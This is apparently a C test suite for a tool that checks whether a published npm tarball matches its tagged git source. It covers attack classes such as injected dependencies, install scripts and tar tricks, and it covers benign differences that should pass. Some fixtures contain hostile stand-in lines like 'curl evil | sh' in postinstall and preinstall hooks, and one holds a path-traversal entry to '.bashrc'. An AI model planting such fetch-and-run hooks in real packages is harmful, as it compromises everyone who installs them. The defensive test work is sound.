/*
 * End-to-end verification cases as data: (source tree, artifact tree, expected findings).
 * Each case commits its source to a fresh git repository (libgit2), tags it, packs the
 * artifact as a tarball (libarchive) and runs sg_verify_local(). Every finding of severity
 * low or above must be expected, and every expected one must be there.
 *
 * Attack classes are those of THREATS.md that need no rebuild or registry; the legitimate
 * differences are THREATS.md's "must NOT fail" list.
 */
#include "sg_test.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "common/hash.h"

#define PJ_BASE                                                                                 \
    "{\n  \"name\": \"demo\",\n  \"version\": \"1.0.0\",\n  \"main\": \"index.js\",\n"          \
    "  \"scripts\": {\"test\": \"node test.js\"},\n"                                            \
    "  \"dependencies\": {\"ms\": \"^2.1.3\"}\n}\n"

#define BASE_FILES                                                                              \
    {"package.json", PJ_BASE, 0, 0}, {"index.js", "module.exports = require('./lib/util');\n", 0, 0}, \
        {"lib/util.js", "exports.add = (a, b) => a + b;\n", 0, 0},                                \
        {"README.md", "# demo\n", 0, 0}, {"LICENSE", "MIT\n", 0, 0}

typedef struct vcase {
    const char *name;
    sgt_file src[12];        /* the committed source; path NULL ends it */
    sgt_file over[8];        /* artifact = packed source + these (content NULL: removed) */
    sgt_tar_entry raw[6];    /* raw tar entries appended as given (tar tricks) */
    const char *subdir;      /* package folder in the repository */
    const char *top;         /* the tar's top folder (default "package") */
    sg_verdict verdict;      /* expected verdict at --fail-on high */
    const char *expect;      /* "kind:key ..." for every finding >= low; key = name or path */
    const char *norm;        /* a normalization the report must name, or NULL */
} vcase;

static const vcase cases[] = {
    /* ---- the artifact equals the source ---- */
    {"identical", {BASE_FILES}, {{0}}, {{0}}, NULL, NULL, SG_VERDICT_PASS, ""},
    {"top_folder_not_package", {BASE_FILES}, {{0}}, {{0}}, NULL, "demo", SG_VERDICT_PASS, ""},
    /* the artifact has the blob's raw bytes where a checkout converts them (eol=crlf): the two
     * blob ids agree, yet the file npm would pack from a checkout differs, so it is read and
     * compared as checked out, never matched by id */
    {"raw_blob_where_checkout_converts",
     {BASE_FILES, {".gitattributes", "lib/*.js text eol=crlf\n", 0, 0}},
     {{0}},
     {{0}},
     NULL,
     NULL,
     SG_VERDICT_FAIL,
     "file-modified:lib/util.js"},

    /* ---- attack class 1: dependency added ---- */
    {"dependency_added",
     {BASE_FILES},
     {{"package.json",
       "{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"index.js\",\"scripts\":{\"test\":"
       "\"node test.js\"},\"dependencies\":{\"ms\":\"^2.1.3\",\"plain-crypto-js\":\"^4.2.1\"}}",
       0, 0}},
     {{0}}, NULL, NULL, SG_VERDICT_FAIL, "dependency-added:plain-crypto-js"},
    {"optional_dependency_added",
     {BASE_FILES},
     {{"package.json",
       "{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"index.js\",\"scripts\":{\"test\":"
       "\"node test.js\"},\"dependencies\":{\"ms\":\"^2.1.3\"},\"optionalDependencies\":"
       "{\"router-init\":\"github:evil/x#abc\"}}",
       0, 0}},
     {{0}}, NULL, NULL, SG_VERDICT_FAIL, "dependency-added:router-init"},
    {"peer_dependency_added",
     {BASE_FILES},
     {{"package.json",
       "{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"index.js\",\"scripts\":{\"test\":"
       "\"node test.js\"},\"dependencies\":{\"ms\":\"^2.1.3\"},\"peerDependencies\":"
       "{\"evil\":\"*\"}}",
       0, 0}},
     {{0}}, NULL, NULL, SG_VERDICT_FAIL, "dependency-added:evil"},

    /* ---- attack class 2: spec changed to a git/URL/alias spec ---- */
    {"dependency_spec_to_git",
     {BASE_FILES},
     {{"package.json",
       "{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"index.js\",\"scripts\":{\"test\":"
       "\"node test.js\"},\"dependencies\":{\"ms\":\"git+https://evil.example/ms.git\"}}",
       0, 0}},
     {{0}}, NULL, NULL, SG_VERDICT_FAIL, "dependency-changed:ms"},
    {"dependency_spec_to_alias",
     {BASE_FILES},
     {{"package.json",
       "{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"index.js\",\"scripts\":{\"test\":"
       "\"node test.js\"},\"dependencies\":{\"ms\":\"npm:evil-ms@1.0.0\"}}",
       0, 0}},
     {{0}}, NULL, NULL, SG_VERDICT_FAIL, "dependency-changed:ms"},

    /* ---- attack class 3: install scripts ---- */
    {"postinstall_added",
     {BASE_FILES},
     {{"package.json",
       "{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"index.js\",\"scripts\":{\"test\":"
       "\"node test.js\",\"postinstall\":\"node setup.js\"},\"dependencies\":{\"ms\":\"^2.1.3\"}}",
       0, 0},
      {"setup.js", "require('child_process').exec('curl evil | sh')\n", 0, 0}},
     {{0}}, NULL, NULL, SG_VERDICT_FAIL, "script-added:postinstall file-added:setup.js"},
    {"preinstall_added",
     {BASE_FILES},
     {{"package.json",
       "{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"index.js\",\"scripts\":{\"test\":"
       "\"node test.js\",\"preinstall\":\"curl evil|sh\"},\"dependencies\":{\"ms\":\"^2.1.3\"}}",
       0, 0}},
     {{0}}, NULL, NULL, SG_VERDICT_FAIL, "script-added:preinstall"},

    /* ---- attack class 4: new code files ---- */
    {"new_js_beside_sources", {BASE_FILES}, {{"lib/telemetry.js", "steal()\n", 0, 0}}, {{0}},
     NULL, NULL, SG_VERDICT_FAIL, "file-added:lib/telemetry.js"},
    {"new_binding_gyp", {BASE_FILES}, {{"binding.gyp", "{\"targets\":[]}\n", 0, 0}}, {{0}},
     NULL, NULL, SG_VERDICT_FAIL, "file-added:binding.gyp"},
    {"new_native_binary", {BASE_FILES}, {{"lib/x.dll", "MZ\x90\x00\x03", 5, 0}}, {{0}}, NULL,
     NULL, SG_VERDICT_FAIL, "file-added:lib/x.dll"},
    {"new_shell_script", {BASE_FILES}, {{"tools/run", "#!/bin/sh\ncurl x|sh\n", 0, 0}}, {{0}},
     NULL, NULL, SG_VERDICT_FAIL, "file-added:tools/run"},

    /* ---- attack class 5: shipped source modified ---- */
    {"source_appended", {BASE_FILES},
     {{"lib/util.js", "exports.add = (a, b) => a + b;\nrequire('https').get('x');\n", 0, 0}},
     {{0}}, NULL, NULL, SG_VERDICT_FAIL, "file-modified:lib/util.js"},
    {"source_one_byte", {BASE_FILES}, {{"lib/util.js", "exports.add = (a, b) => a - b;\n", 0, 0}},
     {{0}}, NULL, NULL, SG_VERDICT_FAIL, "file-modified:lib/util.js"},

    /* ---- attack class 7: bin and entry points ---- */
    {"bin_added",
     {BASE_FILES},
     {{"package.json",
       "{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"index.js\",\"bin\":{\"demo\":"
       "\"index.js\"},\"scripts\":{\"test\":\"node test.js\"},\"dependencies\":{\"ms\":\"^2.1.3\"}}",
       0, 0}},
     {{0}}, NULL, NULL, SG_VERDICT_FAIL, "bin-added:demo"},
    {"main_retargeted",
     {BASE_FILES},
     {{"package.json",
       "{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"lib/util.js\",\"scripts\":{\"test\":"
       "\"node test.js\"},\"dependencies\":{\"ms\":\"^2.1.3\"}}",
       0, 0}},
     {{0}}, NULL, NULL, SG_VERDICT_PASS, "entry-changed:main"},

    /* ---- attack class 8: executable bit ---- */
    {"exec_bit_added", {BASE_FILES},
     {{"lib/util.js", "exports.add = (a, b) => a + b;\n", 0, 0755}}, {{0}}, NULL, NULL,
     SG_VERDICT_PASS, "mode-changed:lib/util.js"},

    /* ---- attack class 9: tar tricks ---- */
    {"duplicate_entry_different_bytes", {BASE_FILES}, {{0}},
     {{"package/lib/util.js", "evil()\n", 0, 0, 0, NULL}}, NULL, NULL, SG_VERDICT_FAIL,
     "duplicate-entry:lib/util.js file-modified:lib/util.js"},
    {"entry_escapes_root", {BASE_FILES}, {{0}},
     {{"package/../../.bashrc", "evil\n", 0, 0, 0, NULL}}, NULL, NULL, SG_VERDICT_FAIL,
     "unsafe-entry:package/../../.bashrc"},
    {"symlink_entry", {BASE_FILES}, {{0}},
     {{"package/lib/passwd", NULL, 0, 0, '2', "/etc/passwd"}}, NULL, NULL,
     SG_VERDICT_PASS, "link-entry:lib/passwd"},
    {"case_twins", {BASE_FILES}, {{0}}, {{"package/LIB/util.js", "evil()\n", 0, 0, 0, NULL}},
     NULL, NULL, SG_VERDICT_FAIL, "case-collision:LIB/util.js file-added:LIB/util.js"},

    /* ---- legitimate differences that must not fail ---- */
    {"dot_segment_duplicate_same_bytes", {BASE_FILES}, {{0}},
     {{"package/./lib/util.js", "exports.add = (a, b) => a + b;\n", 0, 0, 0, NULL}}, NULL, NULL,
     SG_VERDICT_PASS, ""},
    {"version_placeholder",
     {{"package.json",
       "{\"name\":\"demo\",\"version\":\"0.0.0-development\",\"main\":\"index.js\"}\n", 0, 0},
      {"index.js", "x\n", 0, 0}},
     {{"package.json", "{\"name\":\"demo\",\"version\":\"2.3.4\",\"main\":\"index.js\"}", 0, 0}},
     {{0}}, NULL, NULL, SG_VERDICT_PASS, ""},
    {"format_and_removed_dev_fields",
     {{"package.json",
       "{\n\t\"name\": \"demo\",\n\t\"version\": \"1.0.0\",\n\t\"main\": \"index.js\",\n"
       "\t\"devDependencies\": {\"jest\": \"^29\"},\n\t\"scripts\": {\"prepublishOnly\": "
       "\"npm test\"}\n}\n",
       0, 0},
      {"index.js", "x\n", 0, 0}},
     {{"package.json", "{\"main\":\"index.js\",\"version\":\"1.0.0\",\"name\":\"demo\"}", 0, 0}},
     {{0}}, NULL, NULL, SG_VERDICT_PASS, ""},
    {"readme_badges_rewritten", {BASE_FILES},
     {{"README.md", "# demo\n![badge](https://img.shields.io/x)\n", 0, 0}}, {{0}}, NULL, NULL,
     SG_VERDICT_PASS, "file-modified:README.md"},
    {"case_only_rename", {BASE_FILES}, {{"README.md", NULL, 0, 0}, {"Readme.md", "# demo\n", 0, 0}},
     {{0}}, NULL, NULL, SG_VERDICT_PASS, ""},
    {"built_output_not_committed",
     {{"package.json",
       "{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"dist/index.js\",\"files\":[\"dist\"],"
       "\"scripts\":{\"build\":\"node build.js\"}}\n",
       0, 0},
      {".gitignore", "dist/\n", 0, 0},
      {"src/index.js", "export default 1\n", 0, 0},
      {"build.js", "// writes dist\n", 0, 0}},
     {{"dist/index.js", "module.exports = 1\n", 0, 0}},
     {{0}}, NULL, NULL, SG_VERDICT_INCONCLUSIVE, "file-unverified:dist/index.js"},
    /* qs@6.14.0: dist/qs.js is committed and .gitignore matches it (dist/ and a star). */
    {"ignored_but_tracked_same_bytes",
     {{"package.json",
       "{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"index.js\","
       "\"scripts\":{\"build\":\"node build.js\"}}\n",
       0, 0},
      {".gitignore", "dist/*\n", 0, 0},
      {"index.js", "module.exports = 1\n", 0, 0},
      {"build.js", "// writes dist\n", 0, 0},
      {"dist/x.js", "module.exports = 1\n", 0, 0}},
     {{0}}, {{0}}, NULL, NULL, SG_VERDICT_PASS, "", "ignored-but-tracked"},
    {"ignored_but_tracked_one_byte_changed",
     {{"package.json",
       "{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"index.js\","
       "\"scripts\":{\"build\":\"node build.js\"}}\n",
       0, 0},
      {".gitignore", "dist/*\n", 0, 0},
      {"index.js", "module.exports = 1\n", 0, 0},
      {"build.js", "// writes dist\n", 0, 0},
      {"dist/x.js", "module.exports = 1\n", 0, 0}},
     {{"dist/x.js", "module.exports = 2\n", 0, 0}},
     {{0}}, NULL, NULL, SG_VERDICT_FAIL, "file-modified:dist/x.js"},
    {"monorepo_ignored_but_tracked",
     {{"package.json", "{\"private\":true,\"scripts\":{\"build\":\"tsc -b\"}}\n", 0, 0},
      {"packages/a/.gitignore", "dist\n", 0, 0},
      {"packages/a/package.json",
       "{\"name\":\"@s/a\",\"version\":\"1.0.0\"}\n", 0, 0},
      {"packages/a/dist/a.js", "module.exports = 1\n", 0, 0}},
     {{0}}, {{0}}, "packages/a", NULL, SG_VERDICT_PASS, "", "ignored-but-tracked"},
    {"comments_stripped_at_publish",
     {{"package.json", "{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"index.js\"}\n", 0, 0},
      {"index.js", "// entry point\n\n/**\n * adds\n */\nexports.add = (a, b) => a + b;\n", 0, 0}},
     {{"index.js", "exports.add = (a, b) => a + b;\n", 0, 0}},
     {{0}}, NULL, NULL, SG_VERDICT_PASS, "file-modified:index.js"},
    {"comments_stripped_and_payload_appended",
     {{"package.json", "{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"index.js\"}\n", 0, 0},
      {"index.js", "// entry point\nexports.add = (a, b) => a + b;\n", 0, 0}},
     {{"index.js", "exports.add = (a, b) => a + b;\nrequire('https').get('x')\n", 0, 0}},
     {{0}}, NULL, NULL, SG_VERDICT_FAIL, "file-modified:index.js"},
    {"monorepo_built_by_the_root",
     {{"package.json", "{\"private\":true,\"scripts\":{\"build\":\"preconstruct build\"}}\n", 0, 0},
      {".gitignore", "dist\n", 0, 0},
      {"packages/a/package.json",
       "{\"name\":\"@s/a\",\"version\":\"1.0.0\",\"main\":\"dist/a.cjs.js\",\"files\":[\"dist\"]}\n",
       0, 0},
      {"packages/a/src/index.js", "export default 1\n", 0, 0}},
     {{"dist/a.cjs.js", "module.exports = 1\n", 0, 0}},
     {{0}}, "packages/a", NULL, SG_VERDICT_INCONCLUSIVE, "file-unverified:dist/a.cjs.js"},
    {"monorepo_package_with_root_license",
     {{"package.json", "{\"private\":true,\"workspaces\":[\"packages/*\"]}\n", 0, 0},
      {"LICENSE", "MIT root\n", 0, 0},
      {"packages/a/package.json", "{\"name\":\"@s/a\",\"version\":\"1.0.0\",\"main\":\"i.js\"}\n",
       0, 0},
      {"packages/a/i.js", "a\n", 0, 0},
      {"packages/b/package.json",
       "{\"name\":\"@s/b\",\"version\":\"2.0.0\",\"main\":\"i.js\",\"dependencies\":"
       "{\"@s/a\":\"workspace:^\"}}\n",
       0, 0},
      {"packages/b/i.js", "b\n", 0, 0}},
     {{"package.json",
       "{\"name\":\"@s/b\",\"version\":\"2.0.0\",\"main\":\"i.js\",\"dependencies\":"
       "{\"@s/a\":\"^1.0.0\"}}",
       0, 0}},
     {{"package/LICENSE", "MIT root\n", 0, 0, 0, NULL}}, "packages/b", NULL, SG_VERDICT_PASS,
     ""},
};

/* The artifact's files: the source (below subdir) with the overlay applied. */
static size_t artifact_files(sgt_file *out, size_t cap, const vcase *c)
{
    size_t n = 0, i, j, plen = c->subdir ? strlen(c->subdir) : 0;
    for (i = 0; i < 12 && c->src[i].path; i++) {
        const char *p = c->src[i].path;
        if (plen) {
            if (strncmp(p, c->subdir, plen) != 0 || p[plen] != '/')
                continue;
            p += plen + 1;
        }
        if (strcmp(p, ".gitignore") == 0 || strcmp(p, "build.js") == 0 ||
            strncmp(p, "src/", 4) == 0)
            continue; /* not packed by the cases that use them (files: ["dist"]) */
        out[n] = c->src[i];
        out[n++].path = p;
    }
    for (i = 0; i < 8 && c->over[i].path; i++) {
        for (j = 0; j < n && strcmp(out[j].path, c->over[i].path) != 0; j++)
            ;
        if (!c->over[i].content) {
            if (j < n)
                out[j] = out[--n];
            continue;
        }
        if (j == n)
            n++;
        assert_true(n <= cap);
        out[j] = c->over[i];
    }
    return n;
}

static int cmp_str(const void *a, const void *b)
{
    return strcmp(*(char *const *)a, *(char *const *)b);
}

static char *finding_tokens(const sg_report *r)
{
    char **tok = calloc(sg_report_finding_count(r) + 1, sizeof(char *));
    size_t i, n = 0, len = 1;
    char *out;
    for (i = 0; i < sg_report_finding_count(r); i++) {
        const sg_finding *f = sg_report_finding(r, i);
        char buf[512];
        if (f->severity < SG_SEV_LOW)
            continue;
        snprintf(buf, sizeof(buf), "%s:%s", f->kind,
                 f->name ? f->name : f->field ? f->field : f->path ? f->path : "");
        tok[n] = strdup(buf);
        len += strlen(buf) + 1;
        n++;
    }
    qsort(tok, n, sizeof(char *), cmp_str);
    out = calloc(1, len);
    for (i = 0; i < n; i++) {
        if (i)
            strcat(out, " ");
        strcat(out, tok[i]);
        free(tok[i]);
    }
    free(tok);
    return out;
}

/* Sort the space-separated tokens of s. */
static char *sorted_tokens(const char *s)
{
    char *copy = strdup(s), *save = NULL, *t, *tok[32], *out;
    size_t n = 0, i;
    for (t = strtok_r(copy, " ", &save); t && n < 32; t = strtok_r(NULL, " ", &save))
        tok[n++] = t;
    qsort(tok, n, sizeof(char *), cmp_str);
    out = calloc(1, strlen(s) + 2);
    for (i = 0; i < n; i++) {
        if (i)
            strcat(out, " ");
        strcat(out, tok[i]);
    }
    free(copy);
    return out;
}

static int has_norm(const sg_report *r, const char *name)
{
    size_t i;
    for (i = 0; i < sg_report_normalization_count(r); i++)
        if (strcmp(sg_report_normalization(r, i), name) == 0)
            return 1;
    return 0;
}

/* A rebuild never turns a pass into anything else (issue 15): a case that passes is verified
 * again with a rebuild forced (sandboxed; offline: the registry is a closed port, so a case
 * with dependencies to install fails to build and must still pass). */
static void check_rebuild_keeps_pass(const vcase *c, const sg_verify_opts *base)
{
    static const char *const offline[] = {"npm_config_offline=true", "npm_config_fetch_retries=0",
                                          NULL};
    sg_rebuild_opts ro = SG_REBUILD_OPTS_INIT;
    sg_verify_opts opts = *base;
    sg_report *report = NULL;
    sg_ctx *ctx = NULL;
    const char *path = getenv("PATH");
    int sandboxed = 0;

    sg_ctx_new(&ctx);
    ro.mode = SG_REBUILD_ALWAYS;
    ro.search_path = path && *path ? path : "/usr/local/bin:/usr/bin:/bin";
    ro.registry = "http://127.0.0.1:9/";
    ro.timeout_seconds = 60;
    ro.env = offline; /* fail fast instead of retrying the closed port */
    if (!sgt_have_program("node") || !sgt_have_program("npm") ||
        sg_rebuild_check(&sandboxed, ctx, &ro) < 0 || !sandboxed) {
        sg_ctx_free(ctx);
        return;
    }
    opts.rebuild = &ro;
    if (sg_verify_local(&report, ctx, &opts) < 0)
        fail_msg("case %s with a rebuild: verify failed: %s", c->name, sg_error_message(ctx));
    if (sg_report_verdict(report) != SG_VERDICT_PASS) {
        sg_buf text = SG_BUF_INIT;
        sg_report_write_text(&text, ctx, report, SG_TEXT_VERBOSE);
        print_error("case %s: passes without a rebuild, not with one:\n%s\n", c->name, text.ptr);
        sg_buf_dispose(&text);
        fail();
    }
    sg_report_free(report);
    sg_ctx_free(ctx);
}

/* The report names the tarball's own digests, whichever thread computed them. */
static void check_digests(sg_report *report, sg_ctx *ctx, const char *tgz)
{
    size_t len = 0;
    char *bytes = sgt_read_file(tgz, &len), hex[65];
    unsigned char d[32];
    sg_buf integrity = SG_BUF_INIT;

    assert_non_null(bytes);
    assert_int_equal(sg_sha256(d, ctx, bytes, len), 0);
    sg_sha256_hex(hex, d);
    assert_string_equal(sg_report_get(report, SG_REPORT_ARTIFACT_SHA256), hex);
    assert_int_equal(sg_integrity_sha512(&integrity, ctx, (const unsigned char *)bytes, len), 0);
    assert_string_equal(sg_report_get(report, SG_REPORT_ARTIFACT_INTEGRITY), integrity.ptr);
    sg_buf_dispose(&integrity);
    free(bytes);
}

static void run_case(const vcase *c)
{
    char *dir = sgt_tmpdir(), repo[4096], tgz[4096], commit[41];
    sgt_file art[32];
    sgt_tar_entry entries[48];
    char paths[48][512];
    size_t nsrc = 0, nart, n = 0, i;
    sg_ctx *ctx = NULL;
    sg_report *report = NULL;
    sg_verify_opts opts = SG_VERIFY_OPTS_INIT;
    char *got, *want;
    int error;

    while (nsrc < 12 && c->src[nsrc].path)
        nsrc++;
    snprintf(repo, sizeof(repo), "%s/repo", dir);
    snprintf(tgz, sizeof(tgz), "%s/pkg.tgz", dir);
    sgt_git_init(repo, 1);
    sgt_git_commit(commit, repo, NULL, c->src, nsrc, "release", 0);
    sgt_git_tag(repo, "v1.0.0", commit, 1);

    nart = artifact_files(art, 32, c);
    for (i = 0; i < nart; i++, n++) {
        snprintf(paths[n], sizeof(paths[n]), "%s/%s", c->top ? c->top : "package", art[i].path);
        memset(&entries[n], 0, sizeof(entries[n]));
        entries[n].path = paths[n];
        entries[n].content = art[i].content;
        entries[n].len = art[i].len;
        entries[n].mode = art[i].mode == 0755 ? 0755 : 0644;
    }
    for (i = 0; i < 6 && c->raw[i].path; i++)
        entries[n++] = c->raw[i];
    sgt_tar_write(tgz, entries, n);

    sg_ctx_new(&ctx);
    opts.tarball_path = tgz;
    opts.source = repo;
    opts.ref = "v1.0.0";
    opts.subdir = c->subdir;
    error = sg_verify_local(&report, ctx, &opts);
    if (error < 0)
        fail_msg("case %s: verify failed: %s", c->name, sg_error_message(ctx));
    check_digests(report, ctx, tgz);
    got = finding_tokens(report);
    want = sorted_tokens(c->expect);
    if (strcmp(got, want) != 0 || sg_report_verdict(report) != c->verdict ||
        (c->norm && !has_norm(report, c->norm))) {
        sg_buf text = SG_BUF_INIT;
        sg_report_write_text(&text, ctx, report, SG_TEXT_VERBOSE);
        print_error("case %s:\n  want [%s] %s%s%s\n  got  [%s] %s\n%s\n", c->name, want,
                    sg_verdict_name(c->verdict), c->norm ? ", normalization " : "",
                    c->norm ? c->norm : "", got, sg_verdict_name(sg_report_verdict(report)),
                    text.ptr);
        sg_buf_dispose(&text);
        free(got);
        free(want);
        fail();
    }
    free(got);
    free(want);
    sg_report_free(report);
    sg_ctx_free(ctx);
    if (c->verdict == SG_VERDICT_PASS)
        check_rebuild_keeps_pass(c, &opts);
}

static void test_case(void **state)
{
    run_case(*state);
}

int main(void)
{
    struct CMUnitTest tests[sizeof(cases) / sizeof(cases[0])];
    size_t i;
    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        tests[i].name = cases[i].name;
        tests[i].test_func = test_case;
        tests[i].setup_func = NULL;
        tests[i].teardown_func = NULL;
        tests[i].initial_state = (void *)&cases[i];
    }
    return _cmocka_run_group_tests("verify_cases", tests, i, NULL, NULL);
}
